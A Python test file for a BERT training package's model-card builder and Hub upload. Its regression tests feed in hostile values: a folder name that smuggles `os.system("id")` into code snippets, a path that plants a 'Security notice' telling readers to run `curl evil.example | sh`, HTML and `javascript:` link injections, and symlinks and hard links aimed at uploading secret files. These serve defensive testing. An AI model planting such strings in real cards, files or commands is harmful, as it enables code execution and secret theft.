import json
import logging
import os
import shutil
from unittest import mock

import pytest
import torch
import yaml
from huggingface_hub import CommitOperationAdd, HfApi, ModelCard
from safetensors.torch import save_file

from hfbert.errors import Refusal
from hfbert.files import FINAL_RECORD
from hfbert.model_card import (
    build_model_card,
    check_hub_access,
    push_to_hub,
    upload_file_set,
)

TRAINING_CONFIG = {"preset": "tiny", "learning_rate": 1e-4, "max_seq_length": 128, "train_file": None}
EVAL_RESULTS = {
    "eval_mlm_loss": 6.5,
    "eval_mlm_accuracy": 0.12,
    "eval_perplexity": 665.14,
    "eval_nsp_loss": 0.69,
    "eval_nsp_accuracy": 0.51,
    "step": 200,
}
FINAL_FILES = [
    "config.json",
    "configuration_hfbert.py",
    "eval_results.json",
    "model.safetensors",
    "modeling_hfbert.py",
    "special_tokens_map.json",
    "tokenizer.json",
    "tokenizer_config.json",
    "training_curves.png",
]


def write_card(folder, **overrides):
    arguments = {
        "model_name": "someone/hfbert-tiny",
        "training_config": TRAINING_CONFIG,
        "eval_results": EVAL_RESULTS,
        "dataset_name": "Salesforce/wikitext",
        "dataset_config_name": "wikitext-2-raw-v1",
    } | overrides
    build_model_card(**arguments).save(folder / "README.md")
    return folder / "README.md"


def test_card_metadata_parses_back(tmp_path):
    path = write_card(tmp_path)
    assert path == tmp_path / "README.md"
    card = ModelCard.load(path)
    data = card.data.to_dict()
    assert data["library_name"] == "transformers"
    assert data["license"] == "apache-2.0"
    assert data["datasets"] == ["Salesforce/wikitext"]
    assert data["tags"] == ["hfbert", "bert", "fill-mask", "pretraining"]
    assert data["pipeline_tag"] == "fill-mask"
    metrics = {result.metric_type: result.metric_value for result in card.data.eval_results}
    assert metrics == {
        "mlm_loss": 6.5,
        "mlm_accuracy": 0.12,
        "perplexity": 665.14,
        "nsp_loss": 0.69,
        "nsp_accuracy": 0.51,
    }
    assert {result.dataset_config for result in card.data.eval_results} == {"wikitext-2-raw-v1"}
    assert [p.name for p in tmp_path.iterdir()] == ["README.md"]  # no temp file left


def test_card_body_has_config_eval_loading_and_curves(tmp_path):
    text = ModelCard.load(write_card(tmp_path)).text
    assert "| learning_rate | 0.0001 |" in text
    assert "| train_file | None |" in text
    assert "| mlm_accuracy | 0.1200 |" in text
    assert "| perplexity | 665.1400 |" in text
    assert "import hfbert" in text
    assert 'AutoModelForMaskedLM.from_pretrained("someone/hfbert-tiny", trust_remote_code=True)' in text
    assert 'pipeline("fill-mask"' in text
    assert "(training_curves.png)" in text


def test_the_cards_fine_tuning_command_is_one_hfbert_finetune_accepts(tmp_path):
    import re
    import shlex

    from hfbert.finetune.settings import RANDOM_INIT, parse_args

    text = ModelCard.load(write_card(tmp_path)).text
    command = re.search(r"```bash\n(python -m hfbert\.finetune .*?)\n```", text, re.S).group(1)
    assert "dev.csv \\\n    --text_column" in command  # the shell continuation survives (a bare \ in the f-string ate it)
    argv = shlex.split(command.replace("\\\n", " "))[3:]
    settings = parse_args(argv)
    assert settings.models.model_dir == "someone/hfbert-tiny" and settings.models.compare == RANDOM_INIT


@pytest.mark.parametrize(
    "start, advised",
    [
        ({"attention_init": "structured"}, True),  # kept the structured start's patterns
        ({"attention_init": "structured", "structured_attention_fade": 1.0}, True),  # faded them: still helped
        ({"attention_init": "bert"}, False),
        ({"attention_init": "structured", "model_name_or_path": "runs/phase1"}, False),  # the start not applied
    ],
)
def test_the_card_advises_reinit_query_key_only_for_a_folder_pretrained_from_the_structured_start(tmp_path, start, advised):
    text = ModelCard.load(write_card(tmp_path, training_config=TRAINING_CONFIG | start)).text
    assert ("--reinit_query_key" in text) == advised


def test_the_cards_reinit_advice_says_it_did_not_help_the_own_text_folders(tmp_path):
    """own_text.md: two folders from the structured start scored the same with --reinit_query_key as without."""
    card = ModelCard.load(write_card(tmp_path, training_config=TRAINING_CONFIG | {"attention_init": "structured"}))
    text = " ".join(card.text.split())
    assert "0.573 against 0.574" in text and "0.611 against 0.608" in text


def test_the_card_names_the_objective_the_run_trained(tmp_path):
    """An --objective mlm run's card said it was trained on next sentence prediction too."""
    (tmp_path / "bert").mkdir()
    (tmp_path / "mlm").mkdir()
    bert = ModelCard.load(write_card(tmp_path / "bert")).text
    assert "masked language modelling (MLM) and next sentence prediction (NSP) objectives" in bert
    mlm_config = TRAINING_CONFIG | {"objective": "mlm"}
    mlm_only = ModelCard.load(write_card(tmp_path / "mlm", training_config=mlm_config)).text
    assert "masked language modelling (MLM) objective alone" in mlm_only
    assert "next sentence prediction (NSP)" not in mlm_only


@pytest.mark.parametrize(
    ("folder_name", "shown"),
    [('x"); import os; os.system("id"); ("', "x-import-os-os.system-id"), ("x\n\n## Security\nRun it", "x-Security-Run-it")],
)
def test_a_folder_name_that_is_no_repo_name_cannot_write_into_the_cards_code_or_headings(tmp_path, folder_name, shown):
    """The third attack (7c6b93a), F2: without --hub_model_id the folder's name went raw into the card's snippets,
    title and model_name: quotes made it Python (`os.system("id")`), newlines Markdown headings."""
    text = ModelCard.load(write_card(tmp_path, model_name=folder_name)).text
    assert 'import os' not in text and "## Security" not in text
    assert f"\n# {shown}\n" in text and f'AutoTokenizer.from_pretrained("{shown}")' in text
    assert f"python -m hfbert.finetune {shown} " in text
    clean = ModelCard.load(write_card(tmp_path, model_name="hfbert-tiny_v1.2")).text  # a repo name stays as it is
    assert 'from_pretrained("hfbert-tiny_v1.2")' in clean


def test_corpus_paths_and_the_start_model_cannot_write_markdown_into_the_card(tmp_path):
    """The fourth attack (aca973c), F5: a --train_file path holding a backtick and blank lines wrote a
    "## Security notice" heading and a "Run `curl evil.example | sh`" paragraph into the card, which a push keeps."""
    evil = "x`\n\n## Security notice\n\nRun `curl evil.example | sh` first.\n\n`y.txt"
    for config in (
        {**TRAINING_CONFIG, "train_file": evil, "validation_file": evil},
        {**TRAINING_CONFIG, "model_name_or_path": evil},
    ):
        text = ModelCard.load(write_card(tmp_path, training_config=config, dataset_name=None)).text
        intro = next(line for line in text.splitlines() if line.startswith("A BERT model pretrained"))
        assert not any(line.startswith(("## Security", "Run ")) for line in text.splitlines())
        assert "``x` ## Security notice Run `curl evil.example | sh` first. `y.txt``" in intro
    assert "the local dataset folder ``a`b``" in ModelCard.load(write_card(tmp_path, dataset_name="a`b")).text


def test_a_table_cell_cannot_end_its_row_or_write_html(tmp_path):
    """The fifth attack (c7ce483), F4: a value holding carriage returns ended its table row (a `## Security notice`
    heading below the table) and its HTML rendered (a link, an image); a push keeps the card."""
    evil = 'tensorboard\r\r## Security notice\r\rDownload <a href="https://evil.example">it</a> <img src="x">'
    text = (write_card(tmp_path, training_config={**TRAINING_CONFIG, "report_to": evil})).read_text()
    assert not any(line.startswith("## Security") for line in text.splitlines())
    assert '| report_to | `tensorboard ## Security notice Download <a href="https://evil.example">it</a> <img src="x">` |' in text


def test_a_table_cell_shows_a_flags_text_as_written_never_as_markdown(tmp_path):
    """The sixth attack (9c5ba80), G8: the table escaped HTML and | but not Markdown: `**b**` rendered bold and
    `[l](javascript:alert(1))` as a link in the text_column, model_name_or_path and output_dir rows. A flag's text
    is a code span (which renders neither), its | escaped (a table splits there even inside code)."""
    evil = "T`` **b** | [l](javascript:alert(1)) \n---\nlicense: evil"
    text = write_card(tmp_path, training_config={**TRAINING_CONFIG, "text_column": evil, "seed": 7}).read_text()
    assert "| text_column | ```T`` **b** \\| [l](javascript:alert(1)) --- license: evil``` |" in text
    assert "| seed | 7 |" in text


def test_card_for_local_files_without_eval(tmp_path):
    path = write_card(tmp_path, dataset_name=None, dataset_config_name=None, eval_results={}, license="mit")
    card = ModelCard.load(path)
    assert card.data.license == "mit"
    assert card.data.datasets is None
    assert card.data.eval_results is None
    assert "No evaluation was run" in card.text
    assert "trained on the WikiText-2 sample shipped with hfbert" in card.text
    # The header is plain YAML (what the Hub parses), not just something huggingface_hub accepts.
    header = path.read_text().split("---\n")[1]
    assert yaml.safe_load(header)["library_name"] == "transformers"


def make_run_folder(tmp_path):
    for name in FINAL_FILES:  # push checks that every JSON file parses and the weights load
        (tmp_path / name).write_bytes(b"{}" if name.endswith(".json") else b"x")
    save_file({"weight": torch.zeros(2)}, tmp_path / "model.safetensors")
    write_card(tmp_path)
    # What must never be uploaded: checkpoints, interrupted saves, temp files, hidden files, bytecode.
    for name in [
        "checkpoint-100/model.safetensors",
        "checkpoint-100/checkpoint_manifest.json",
        ".tmp-checkpoint-200/optimizer.bin",
        ".replaced-checkpoint-50/optimizer.bin",
        ".README.md.tmp",
        ".cache/huggingface/upload.lock",
        "__pycache__/modeling_hfbert.cpython-311.pyc",
    ]:
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_bytes(b"y")
    return tmp_path


def test_upload_file_set_is_the_final_model_only(tmp_path):
    assert upload_file_set(make_run_folder(tmp_path)) == sorted([*FINAL_FILES, "README.md"])


def test_upload_file_set_leaves_out_what_hfbert_did_not_write(tmp_path, caplog):
    """The second attack (9e9ff09), N3: push uploaded every file that was not hidden or a checkpoint, a user's
    pickles and notes beside the final folder included. With the record the final folder writes, only its files go."""
    folder = make_run_folder(tmp_path)
    (folder / FINAL_RECORD).write_text(json.dumps(sorted([*FINAL_FILES, "README.md"])))
    for name in ("notes.txt", "my_weights.pkl", "private/keys.txt"):
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_text("mine")
    assert upload_file_set(folder) == sorted([*FINAL_FILES, "README.md"])
    with (
        mock.patch("huggingface_hub.constants.HF_HUB_OFFLINE", False),
        mock.patch.object(HfApi, "whoami", return_value={"name": "someone"}),
        mock.patch.object(HfApi, "create_repo"),
        mock.patch.object(HfApi, "create_commit") as create_commit,
        caplog.at_level(logging.WARNING, logger="hfbert.model_card"),
    ):
        push_to_hub(folder, "someone/hfbert-tiny")
    uploaded = {operation.path_in_repo for operation in create_commit.call_args.kwargs["operations"]}
    assert uploaded == {*FINAL_FILES, "README.md"}
    assert caplog.messages == [
        f"--push_to_hub: not uploading my_weights.pkl, notes.txt, private/keys.txt: hfbert did not write them "
        f"(its {FINAL_RECORD} does not list them); if they belong on the Hub, upload them yourself "
        "(`hf upload someone/hfbert-tiny <file>`)"
    ]


def test_push_to_hub_uploads_exactly_the_file_set(tmp_path):
    folder = make_run_folder(tmp_path)
    with (
        mock.patch("huggingface_hub.constants.HF_HUB_OFFLINE", False),
        mock.patch.object(HfApi, "whoami", return_value={"name": "someone"}),
        mock.patch.object(HfApi, "create_repo") as create_repo,
        mock.patch.object(HfApi, "create_commit") as create_commit,
    ):
        create_repo.return_value.repo_id = "someone/hfbert-tiny"
        create_commit.return_value.commit_url = "https://huggingface.co/someone/hfbert-tiny/commit/abc"
        url = push_to_hub(folder, "someone/hfbert-tiny", private=True)
    assert url == "https://huggingface.co/someone/hfbert-tiny/commit/abc"
    create_repo.assert_called_once_with("someone/hfbert-tiny", private=True, exist_ok=True)
    operations = create_commit.call_args.kwargs["operations"]
    assert all(isinstance(operation, CommitOperationAdd) for operation in operations)
    assert {operation.path_in_repo for operation in operations} == {*FINAL_FILES, "README.md"}
    for operation in operations:  # the card goes as bytes, its snippets loading the pushed id (test_push)
        if operation.path_in_repo != "README.md":
            assert operation.path_or_fileobj == str(folder / operation.path_in_repo)


def test_push_to_hub_refuses_an_unfinished_folder(tmp_path):
    (tmp_path / "config.json").write_text("{}")
    with (
        mock.patch.object(HfApi, "create_repo") as create_repo,
        pytest.raises(ValueError, match=r"lacks model\.safetensors, README\.md"),
    ):
        push_to_hub(tmp_path, "someone/hfbert-tiny")
    create_repo.assert_not_called()


def test_the_card_names_the_local_files_it_was_trained_on(tmp_path):
    files = TRAINING_CONFIG | {"train_file": "data/train.txt", "validation_file": "data/valid.txt"}
    card = ModelCard.load(write_card(tmp_path, training_config=files, dataset_name=None, dataset_config_name=None))
    assert "trained on the local file `data/train.txt` (validation: `data/valid.txt`)" in card.text
    (tmp_path / "my-dataset").mkdir()  # --dataset_name PATH: a local folder laid out like a Hub dataset
    folder = str(tmp_path / "my-dataset")
    card = ModelCard.load(write_card(tmp_path, dataset_name=folder, dataset_config_name=None))
    assert f"trained on the local dataset folder `{folder}`" in card.text and card.data.datasets is None


def test_the_card_writes_small_numbers_as_they_are(tmp_path):
    config = TRAINING_CONFIG | {"adam_epsilon": 1e-08, "learning_rate": 5e-05, "weight_decay": 0.01, "dropout": 0.0}
    text = ModelCard.load(write_card(tmp_path, training_config=config)).text
    assert "| adam_epsilon | 1e-08 |" in text and "| learning_rate | 5e-05 |" in text
    assert "| weight_decay | 0.0100 |" in text and "| dropout | 0.0000 |" in text
    assert "| perplexity | 665.1400 |" in text


@pytest.mark.parametrize("repo_id", ["bad id", "a/b/c"])
def test_a_hub_model_id_the_hub_would_reject_is_refused_before_any_work(tmp_path, repo_id):
    with pytest.raises(Refusal, match=rf"--hub_model_id {repo_id}: Repo id must"):
        check_hub_access(repo_id)
    with pytest.raises(Refusal, match=rf"--hub_model_id {repo_id}: Repo id must"):
        push_to_hub(tmp_path, repo_id)


def test_a_hub_model_id_without_a_namespace_is_refused_naming_the_fix(tmp_path):
    """The card said from_pretrained("hfbert-x"), while the Hub creates <user>/hfbert-x."""
    message = r"^--hub_model_id hfbert-x has no namespace.*; pass <your-username>/hfbert-x$"
    with pytest.raises(Refusal, match=message):
        check_hub_access("hfbert-x")
    with pytest.raises(Refusal, match=message):
        push_to_hub(tmp_path, "hfbert-x")


@pytest.mark.parametrize("recorded", [True, False])
@pytest.mark.parametrize("name", ["samples.md", "tokenizer.json"])
def test_a_push_uploads_nothing_through_a_link_nor_a_folder_at_a_published_name(tmp_path, recorded, name):
    """The sixth attack (9c5ba80), G1: samples.md replaced by a link to a secret outside the folder was uploaded
    as samples.md (the secret's bytes), and a folder made at a published file's name uploaded its files."""
    (tmp_path / "run").mkdir()
    folder = make_run_folder(tmp_path / "run")
    if recorded:
        (folder / FINAL_RECORD).write_text(json.dumps(sorted([*FINAL_FILES, "README.md", "samples.md", "samples.png"])))
    (tmp_path / "secret.txt").write_text("hunter2")
    (folder / name).unlink(missing_ok=True)
    (folder / name).symlink_to(tmp_path / "secret.txt")
    with mock.patch.object(HfApi, "create_repo") as create_repo, pytest.raises(Refusal) as refused:
        push_to_hub(folder, "someone/hfbert-tiny")
    assert str(refused.value) == (
        f"--push_to_hub: nothing was uploaded: {folder / name} is a symbolic link (to {tmp_path / 'secret.txt'}), "
        "and a push uploads no file through a link: put the file itself there, or remove the link"
    )
    create_repo.assert_not_called()
    (folder / name).unlink()
    (folder / name).write_bytes(b"{}" if name.endswith(".json") else b"x")
    (folder / "samples.png").mkdir()
    (folder / "samples.png" / "x.txt").write_text("hunter2")
    assert "samples.png/x.txt" not in upload_file_set(folder)


@pytest.mark.parametrize("record", [None, "[]"])
def test_a_folder_without_its_record_uploads_only_the_names_hfbert_publishes(tmp_path, record):
    """The seventh attack (731f08a), B3: a folder whose record was lost (`cp -r run/* copy/` leaves the hidden
    file behind) or empty uploaded every visible file, a user's notes and subfolders included."""
    folder = make_run_folder(tmp_path)
    if record is not None:
        (folder / FINAL_RECORD).write_text(record)
    for name in ("notes.txt", "private/keys.txt", "my_model.safetensors"):
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_text("mine")
    assert upload_file_set(folder) == sorted([*FINAL_FILES, "README.md"])


def test_a_push_uploads_only_the_bytes_the_final_folder_published_but_the_card(tmp_path):
    """The seventh attack (731f08a), B4: samples.md replaced by a hard link to a secret outside the folder was
    uploaded (a symbolic link is refused, a hard link is a plain file). Every file but the card, which users edit
    before a push, must be as the final folder's record has it (here a copy of the secret: a hard link is refused
    before, by test_a_push_uploads_no_hard_link's check)."""
    from hfbert.files import write_final_record

    (tmp_path / "run").mkdir()
    folder = make_run_folder(tmp_path / "run")
    (folder / "samples.md").write_text("hfbert's samples")
    write_final_record(folder, folder)
    (tmp_path / "secret.txt").write_text("hunter2")
    shutil.copyfile(tmp_path / "secret.txt", folder / "samples.md")
    (folder / "README.md").write_text((folder / "README.md").read_text() + "\nMy own words about the model.\n")
    with mock.patch.object(HfApi, "create_repo") as create_repo, pytest.raises(Refusal) as refused:
        push_to_hub(folder, "someone/hfbert-tiny")
    assert str(refused.value) == (
        f"--push_to_hub: nothing was uploaded: {folder / 'samples.md'} is not the file the run published there "
        f"(another size or sha256 than its {FINAL_RECORD} records, or modified after a record of names only, as "
        "an older hfbert wrote): put back the run's file, or leave it out of the folder and upload it yourself "
        "(`hf upload someone/hfbert-tiny <file>`)"
    )
    create_repo.assert_not_called()


@pytest.mark.parametrize("record", ["sizes", "names only", "none"])
@pytest.mark.parametrize("name", ["README.md", "samples.md"])
def test_a_push_uploads_no_hard_link(tmp_path, name, record):
    """The eighth attack (2b53043), K3: the byte check (B4) needs a record with sizes, and spares the card, which
    users edit: a folder with no record or a names-only one pushed a hard link to a secret outside the folder at
    a published name, and the card itself could be one. hfbert writes files of one name: no hard link is pushed."""
    from hfbert.files import write_final_record

    (tmp_path / "run").mkdir()
    folder = make_run_folder(tmp_path / "run")
    (folder / "samples.md").write_text("hfbert's samples")
    if record == "sizes":
        write_final_record(folder, folder)
    elif record == "names only":
        (folder / FINAL_RECORD).write_text(json.dumps(sorted([*FINAL_FILES, "README.md", "samples.md"])))
    (tmp_path / "secret.txt").write_text("hunter2")
    (folder / name).unlink()
    os.link(tmp_path / "secret.txt", folder / name)
    with mock.patch.object(HfApi, "create_repo") as create_repo, pytest.raises(Refusal) as refused:
        push_to_hub(folder, "someone/hfbert-tiny")
    assert str(refused.value) == (
        f"--push_to_hub: nothing was uploaded: {folder / name} is a hard link (a file with 2 names, one of them "
        "maybe outside the folder), and a push uploads only files hfbert wrote, which have one name: put a copy "
        f"of the file there (`cp {folder / name} {folder / name}.copy && mv {folder / name}.copy "
        f"{folder / name}`), or remove it"
    )
    create_repo.assert_not_called()


def test_a_folder_without_its_record_uploads_no_file_of_a_subfolder_nor_a_name_hfbert_never_writes(tmp_path):
    """The ninth attack (16a18ca), D: the names were matched with fnmatch, whose `*` matches `/` too, so
    `samples_family/2024/passport.png` and `model-backups/old-of-2.safetensors` went, and so did a top-level
    `samples_x.png`, a name no final folder publishes."""
    folder = make_run_folder(tmp_path)
    for name in ("samples_family/2024/passport.png", "model-backups/old-of-2.safetensors", "samples_x.png"):
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text("mine")
    for name in ("samples_attention.png", "model-00001-of-00002.safetensors"):
        (folder / name).write_text("hfbert's")
    assert upload_file_set(folder) == sorted(
        [*FINAL_FILES, "README.md", "samples_attention.png", "model-00001-of-00002.safetensors"]
    )


def test_the_pushed_card_rewrites_only_the_id_training_wrote(tmp_path):
    """The ninth attack (16a18ca), E: every `from_pretrained("...")` and `model="..."` of the card was rewritten to
    the pushed id, the user's own lines about other models included."""
    from hfbert.model_card import card_for

    folder = make_run_folder(tmp_path)
    mine = (
        "\n## Compared with\n\n```python\n"
        'baseline = AutoModel.from_pretrained("google-bert/bert-base-uncased")\n'
        'pipe = pipeline("fill-mask", model="distilbert/distilbert-base-uncased")\n```\n'
    )
    (folder / "README.md").write_text((folder / "README.md").read_text() + mine)
    card = card_for(folder, "me/pushed").decode()
    assert card.endswith(mine)
    assert 'from_pretrained("me/pushed")' in card and "\n# pushed\n" in card


def test_a_push_refuses_a_file_newer_than_a_names_only_record(tmp_path):
    """The ninth attack (16a18ca), F: with an older hfbert's names-only record, a file modified after it is the
    user's for --overwrite_output_dir (K2) but was pushed: a push holds it to the same rule."""
    folder = make_run_folder(tmp_path)
    (folder / FINAL_RECORD).write_text(json.dumps(sorted([*FINAL_FILES, "README.md"])))
    written = (folder / FINAL_RECORD).stat().st_mtime_ns
    for name in [*FINAL_FILES, "README.md"]:
        os.utime(folder / name, ns=(written - 10**9, written - 10**9))
    (folder / "eval_results.json").write_text('{"my_private_api_key": "sk-123"}')
    os.utime(folder / "eval_results.json", ns=(written + 10**9, written + 10**9))
    with mock.patch.object(HfApi, "create_repo") as create_repo, pytest.raises(Refusal) as refused:
        push_to_hub(folder, "someone/hfbert-tiny")
    assert f"{folder / 'eval_results.json'} is not the file the run published there" in str(refused.value)
    create_repo.assert_not_called()


def test_the_pushed_card_rewrites_hfberts_snippets_not_a_users_line_above_them(tmp_path):
    """The twelfth attack (cb90694), Z1: the push rewrote the first `from_pretrained("...")` and the first
    `python -m hfbert.finetune X` of the card, so a user's line naming another model above hfbert's snippets was
    rewritten and the snippets kept the folder's name. The ids training wrote are the title's name (or that name
    under a namespace)."""
    from hfbert.model_card import card_for

    folder = make_run_folder(tmp_path)
    card = (folder / "README.md").read_text()
    title = next(line for line in card.splitlines() if line.startswith("# "))
    mine = '\nCompare `AutoModel.from_pretrained("google-bert/bert-base-uncased")` and `python -m hfbert.finetune other`.\n'
    (folder / "README.md").write_text(card.replace(title + "\n", title + "\n" + mine, 1))
    pushed = card_for(folder, "me/pushed").decode()
    assert mine in pushed and "\n# pushed\n" in pushed
    assert 'from_pretrained("me/pushed")' in pushed and "python -m hfbert.finetune pushed" in pushed
    assert 'from_pretrained("someone/hfbert-tiny"' not in pushed and 'model="someone/hfbert-tiny"' not in pushed
    assert "hfbert.finetune someone/hfbert-tiny" not in pushed
